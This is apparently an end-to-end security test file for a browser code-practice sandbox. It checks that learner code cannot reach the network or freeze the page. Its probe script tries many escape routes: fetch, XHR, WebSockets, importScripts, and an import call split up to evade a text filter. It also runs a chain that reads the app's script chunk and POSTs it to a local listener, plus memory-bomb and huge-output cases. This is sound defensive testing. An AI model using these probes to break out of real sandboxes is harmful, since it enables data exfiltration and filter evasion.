/**
 * The practice sandbox against an attacker, in Chromium on the production build:
 * - every network probe (and a 4-step chain that reads the app's own chunk and sends it out) sends
 *   NOTHING to a loopback listener started here — through the UI (both layers), and with the
 *   JavaScript lockdown skipped (the frame's policy alone); the same probes from an ordinary Worker
 *   do reach the listener, so the listener and the probes work;
 * - huge return values, a 200,000-row answer and a memory bomb leave the page responsive: the longest
 *   task on the page (PerformanceObserver "longtask") stays under 200 ms.
 */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { frameHtml } from '../../src/practice/sandbox/frame-html'
import { MAX_ERROR_CHARS, SANDBOX_LIMITS } from '../../src/practice/sandbox/protocol'
import { launchBrowser, openPage, screenshot } from './support/browser'

let browser: Browser
let listener: Server
let hits: string[] = []
let L = ''

beforeAll(async () => {
  browser = await launchBrowser()
  listener = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`)
    res.setHeader('access-control-allow-origin', '*')
    res.end('ok')
  })
  listener.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  L = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
})
afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => listener?.close(resolve))
})
beforeEach(() => {
  hits = []
})

/**
 * Plain JavaScript that tries every way out it knows, synchronously, then keeps its thread alive for
 * a while so asynchronous requests are really dispatched. Returns one line per probe.
 */
function probeBody(listenerUrl: string, chunkUrl: string): string {
  return `
  const L = ${JSON.stringify(listenerUrl)}
  const CHUNK = ${JSON.stringify(chunkUrl)}
  const g = globalThis
  const out = []
  const t = (name, f) => {
    try {
      const v = f()
      if (v && typeof v.catch === 'function') v.catch(() => {})
      out.push(name + ': ' + (v && typeof v.then === 'function' ? 'a promise' : String(v)))
    } catch (e) {
      out.push(name + ': ' + String(e).slice(0, 80))
    }
  }
  // the 4-step chain: swallow errors, read the app's chunk, send it out (two ways)
  t('swallow', () => { g.onerror = () => true; g.addEventListener('unhandledrejection', (e) => e.preventDefault()); return 'ok' })
  t('chain-xhr', () => { const x = new g.XMLHttpRequest(); x.open('GET', CHUNK, false); x.send(); const y = new g.XMLHttpRequest(); y.open('POST', L + '/chain-xhr', false); y.send(x.responseText.slice(0, 64)); return 'sent' })
  t('chain-fetch', () => g.WorkerGlobalScope.prototype.fetch.call(g, CHUNK).then((r) => r.text()).then((s) => g.WorkerGlobalScope.prototype.fetch.call(g, L + '/chain-fetch', { method: 'POST', body: s.slice(0, 64) })))
  t('fetch', () => g.fetch(L + '/fetch'))
  t('proto-fetch', () => g.WorkerGlobalScope.prototype.fetch.call(g, L + '/proto-fetch'))
  t('proto-walk', () => { for (let o = g; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'fetch'); if (d && typeof d.value === 'function') { try { return d.value.call(g, L + '/proto-walk') } catch (e) {} } } return 'none' })
  t('xhr', () => { const x = new g.XMLHttpRequest(); x.open('GET', L + '/xhr', false); x.send(); return x.status })
  t('importScripts', () => g.importScripts(L + '/importScripts.js'))
  // built at run time: the sandbox refuses code whose text contains an import call
  const IMPORT = 'imp' + 'ort('
  t('import-string', () => g.setTimeout(IMPORT + JSON.stringify(L + '/import.js') + ')'))
  t('eval-import', () => (0, g.eval)(IMPORT + JSON.stringify(L + '/eval-import.js') + ')'))
  t('function-import', () => new g.Function('return ' + IMPORT + JSON.stringify(L + '/function-import.js') + ')')())
  t('websocket', () => new g.WebSocket(L.replace('http', 'ws') + '/websocket'))
  t('websocketstream', () => new g.WebSocketStream(L.replace('http', 'ws') + '/websocketstream'))
  t('webtransport', () => new g.WebTransport(L.replace('http', 'https') + '/webtransport'))
  t('eventsource', () => new g.EventSource(L + '/eventsource'))
  t('fontface', () => new g.FontFace('probe', 'url(' + L + '/fontface)').load())
  t('fonts', () => { const f = new g.FontFace('probe2', 'url(' + L + '/fonts)'); g.fonts.add(f); return g.fonts.load('12px probe2') })
  t('worker', () => new g.Worker(L + '/worker.js'))
  t('nested-blob-worker', () => new g.Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(L + '/nested') + ')']))))
  t('indexedDB', () => g.indexedDB.open('probe'))
  t('caches', () => g.caches.open('probe'))
  t('storage', () => g.navigator.storage.getDirectory())
  t('broadcast', () => new g.BroadcastChannel('probe').postMessage('x'))
  const until = Date.now() + 1200
  while (Date.now() < until) {}
  return out
`
}

/** Replaces the editor's text by typing, as a learner would (select all, then insert). */
async function setEditorText(page: Page, text: string) {
  const lines = page.locator('[data-testid="code-editor"] .view-lines')
  await lines.click()
  await page.keyboard.press('Control+A')
  await page.keyboard.press('Delete')
  await page.keyboard.insertText(text)
  // Monaco closed the first `{` on its own: drop what it added after the text (a stray `}` is a
  // syntax error for sucrase, which TypeScript's transpiler used to let through).
  await page.keyboard.press('Control+Shift+End')
  await page.keyboard.press('Delete')
  // The editor renders only visible lines; after typing, the last one is on screen.
  const probe = text.trim().split('\n').pop()?.trim().slice(0, 20) ?? ''
  await expect.poll(async () => ((await lines.textContent()) ?? '').replace(/\s+/g, ' ')).toContain(probe)
}

async function runAndWait(page: Page): Promise<string> {
  // Run clears the previous result at once and shows the next one when graded (maybe within 100 ms):
  // a MutationObserver notes the moment without a result, so an old result is never taken for new.
  await page.evaluate(() => {
    const w = window as unknown as { resultGone: boolean; resultWatch?: MutationObserver }
    const present = () => document.querySelector('[data-testid="code-result"]') !== null
    w.resultGone = !present()
    w.resultWatch?.disconnect()
    w.resultWatch = new MutationObserver(() => {
      if (!present()) w.resultGone = true
    })
    w.resultWatch.observe(document.body, { childList: true, subtree: true })
  })
  await page.getByTestId('code-run').click()
  await page.waitForFunction(
    () =>
      (window as unknown as { resultGone: boolean }).resultGone &&
      document.querySelector('[data-testid="code-result"]') !== null,
    null,
    { timeout: 30_000 },
  )
  const result = page.getByTestId('code-result')
  return (await result.getAttribute('data-kind')) ?? ''
}

async function chunkUrl(page: Page): Promise<string> {
  const src = await page.evaluate(() => document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '')
  expect(src).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/.*\.js$/)
  return src
}

/** Waits long enough for any late request, then returns what the listener saw. */
async function settledHits(): Promise<string[]> {
  await new Promise((r) => setTimeout(r, 1500))
  return hits
}

describe('sandbox: no way out', () => {
  it('every network probe and the chain send nothing from learner code (both layers, through the UI)', async () => {
    const w = await openPage(browser, '?view=practice&exercise=code-matcher')
    const { page } = w
    await page.locator('[data-testid="code-editor"] .monaco-editor').waitFor({ timeout: 30_000 })
    const body = probeBody(L, await chunkUrl(page)).replace(/\n/g, '\n  ')
    await setEditorText(
      page,
      `function matches(p: string, k: string): boolean {\n  const once: any = globalThis\n  if (once.ran) return false\n  once.ran = true\n  const lines = (() => {${body}})()\n  throw new Error(lines.join(' | '))\n}`,
    )
    const kind = await runAndWait(page)
    expect(kind, (await page.getByTestId('code-result').textContent()) ?? '').toBe('fail')
    const report = (await page.getByTestId('failure-actual').textContent()) ?? ''
    console.info(`probes through the UI:\n  ${report.split(' | ').join('\n  ')}`)
    expect(await settledHits()).toEqual([])
    // …and the JavaScript layer already refused them, with a clear message.
    expect(report).toContain('fetch: Error: fetch is not available in exercises')
    expect(report).toContain('websocket: Error: WebSocket is not available in exercises')
    await w.context.close()
  })

  it('the frame policy alone (lockdown skipped) sends nothing; an ordinary Worker with the same probes does', async () => {
    const w = await openPage(browser, '?view=practice&exercise=code-matcher')
    const { page } = w
    const body = probeBody(L, await chunkUrl(page))
    // A Worker program WITHOUT the JavaScript lockdown: only the frame's origin and policy hold it.
    const unlocked = `postMessage({ kind: 'ready' })\nonmessage = () => { const lines = (() => {${body}})(); postMessage({ kind: 'load-error', error: lines.join(' | ').slice(0, ${MAX_ERROR_CHARS}) }) }`
    const framed = await page.evaluate(
      ({ html, source, limits, maxError }) =>
        new Promise<string>((resolve) => {
          const frame = document.createElement('iframe')
          frame.setAttribute('sandbox', 'allow-scripts')
          frame.srcdoc = html
          const channel = new MessageChannel()
          channel.port1.onmessage = (e) => {
            if (e.data.kind === 'ready') channel.port1.postMessage({ calls: [] })
            else resolve(String(e.data.error))
          }
          frame.onload = () =>
            frame.contentWindow?.postMessage({ kind: 'init', source, limits, maxError }, '*', [channel.port2])
          document.body.append(frame)
        }),
      { html: frameHtml(), source: unlocked, limits: SANDBOX_LIMITS, maxError: MAX_ERROR_CHARS },
    )
    console.info(`probes in the frame without the lockdown:\n  ${framed.split(' | ').join('\n  ')}`)
    // The probes really ran (no lockdown messages): the policy is what stopped them.
    expect(framed).not.toContain('not available in exercises')
    expect(framed).toMatch(/xhr: NetworkError/)
    // …and the frame's opaque origin has no storage at all.
    expect(framed).toMatch(/indexedDB: SecurityError/)
    expect(framed).toMatch(/caches: TypeError/)
    expect(framed).toMatch(/storage: TypeError/)
    expect(await settledHits()).toEqual([])

    // Control: the same program in an ordinary Worker of the page reaches the listener.
    await page.evaluate(
      (source) =>
        new Promise<void>((resolve) => {
          const worker = new Worker(URL.createObjectURL(new Blob([source])))
          worker.onmessage = (e) => {
            if (e.data.kind === 'ready') worker.postMessage({})
            else resolve()
          }
        }),
      unlocked,
    )
    const reached = await settledHits()
    console.info(`the same probes from an ordinary Worker reached: ${reached.join(', ')}`)
    for (const path of ['/fetch', '/proto-fetch', '/xhr', '/importScripts.js', '/eventsource', '/chain-xhr'])
      expect(
        reached.some((h) => h.endsWith(` ${path}`)),
        path,
      ).toBe(true)
    await w.context.close()
  })
})

/**
 * While `action` runs: the longest main-thread task (the page's own PerformanceObserver "longtask")
 * and the longest gap of a 50 ms heartbeat timer, in ms.
 */
async function busyness(
  page: Page,
  action: () => Promise<void>,
): Promise<{ longestTask: number; longestGap: number }> {
  await page.evaluate(() => {
    const w = window as unknown as { probe?: { tasks: number[]; gaps: number[]; stop: () => void } }
    w.probe?.stop()
    const tasks: number[] = []
    const gaps: number[] = []
    const observer = new PerformanceObserver((list) => {
      for (const e of list.getEntries()) tasks.push(e.duration)
    })
    observer.observe({ type: 'longtask' })
    let last = performance.now()
    const beat = setInterval(() => {
      const now = performance.now()
      gaps.push(now - last)
      last = now
    }, 50)
    const stop = () => {
      observer.disconnect()
      clearInterval(beat)
    }
    w.probe = { tasks, gaps, stop }
  })
  await action()
  await new Promise((r) => setTimeout(r, 300))
  return page.evaluate(() => {
    const p = (window as unknown as { probe: { tasks: number[]; gaps: number[]; stop: () => void } }).probe
    p.stop()
    return { longestTask: Math.max(0, ...p.tasks), longestGap: Math.max(0, ...p.gaps) }
  })
}

describe('sandbox: results and memory cannot freeze the page', () => {
  const cases: { name: string; exercise: string; code: string; kind: string; note?: RegExp }[] = [
    {
      name: 'a 5e7-character return',
      exercise: 'code-matcher',
      code: "function matches(p: string, k: string): any { return 'x'.repeat(5e7) }",
      kind: 'fail',
      note: /too large to check/,
    },
    {
      name: 'a 2e8-character return',
      exercise: 'code-matcher',
      code: "function matches(p: string, k: string): any { return 'y'.repeat(2e8) }",
      kind: 'fail',
      note: /too large to check/,
    },
    {
      name: 'a memory bomb',
      exercise: 'code-matcher',
      code: 'function matches(p: string, k: string): boolean { const a: number[][] = []; for (;;) a.push(new Array(1e6).fill(k.length)) }',
      kind: 'timeout',
    },
    {
      name: 'a 200,000-row answer',
      exercise: 'code-counterexample',
      code: "function cases(): [string, string, boolean][] { const rows: [string, string, boolean][] = []; for (let i = 0; i < 200000; i++) rows.push(['a.*.c', 'a.b.x.c', false]); return rows }",
      kind: 'fail',
      note: /too large to check/,
    },
  ]

  it('huge returns, a 200,000-row answer and a memory bomb: longest task on the page < 200 ms', async () => {
    let w: Awaited<ReturnType<typeof openPage>> | null = null
    let open = ''
    for (const { exercise, code, kind, note, name } of cases) {
      if (open !== exercise) {
        await w?.context.close()
        w = await openPage(browser, `?view=practice&exercise=${exercise}`)
        open = exercise
        await w.page.locator('[data-testid="code-editor"] .monaco-editor').waitFor({ timeout: 30_000 })
      }
      const page = (w as NonNullable<typeof w>).page
      await setEditorText(page, code)
      let seen = ''
      const { longestTask, longestGap } = await busyness(page, async () => {
        seen = await runAndWait(page)
      })
      console.info(
        `${name}: result "${seen}"; on the page: longest task ${longestTask.toFixed(0)} ms, longest 50 ms-timer gap ${longestGap.toFixed(0)} ms`,
      )
      expect(seen, name).toBe(kind)
      if (note) expect(await page.getByTestId('first-failure').textContent(), name).toMatch(note)
      expect(longestTask, name).toBeLessThan(200)
      if (kind === 'timeout') await screenshot(page, 'practice-sandbox-memory-bomb')
      expect((w as NonNullable<typeof w>).pageErrors, name).toEqual([])
    }
    await w?.context.close()
  })
})
